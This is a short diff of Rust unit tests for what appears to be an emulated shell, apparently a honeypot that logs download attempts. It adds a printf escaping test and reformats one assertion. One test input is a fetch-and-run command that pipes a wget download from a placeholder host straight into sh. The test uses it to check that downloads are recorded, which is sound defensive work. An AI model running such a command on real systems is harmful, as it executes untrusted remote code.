@@ -880,6 +880,7 @@ mod tests {
             b"a-7\r\nb-8\r\n"
         );
         assert_eq!(out(&mut sh, b"printf '\\101\\x42'"), b"AB");
+        assert_eq!(out(&mut sh, b"printf 'a\\\\b\\\\'"), b"a\\b\\");
     }
 
     #[test]
@@ -1129,7 +1130,10 @@ mod tests {
         );
         assert!(d.file(b"/root/f").is_some());
         let o = d.run_line(b"U=http://h/v.sh; wget -q $U -O- | sh");
-        assert_eq!(downloads(&o), vec![(b"http://h/v.sh".to_vec(), "wget", None)]);
+        assert_eq!(
+            downloads(&o),
+            vec![(b"http://h/v.sh".to_vec(), "wget", None)]
+        );
         let o = d.run_line(b"wget --output-document=/tmp/q http://h/q");
         assert_eq!(downloads(&o)[0].2, Some(b"/tmp/q".to_vec()));
         assert!(o.output.windows(9).any(|w| w == b"saved [0/"));
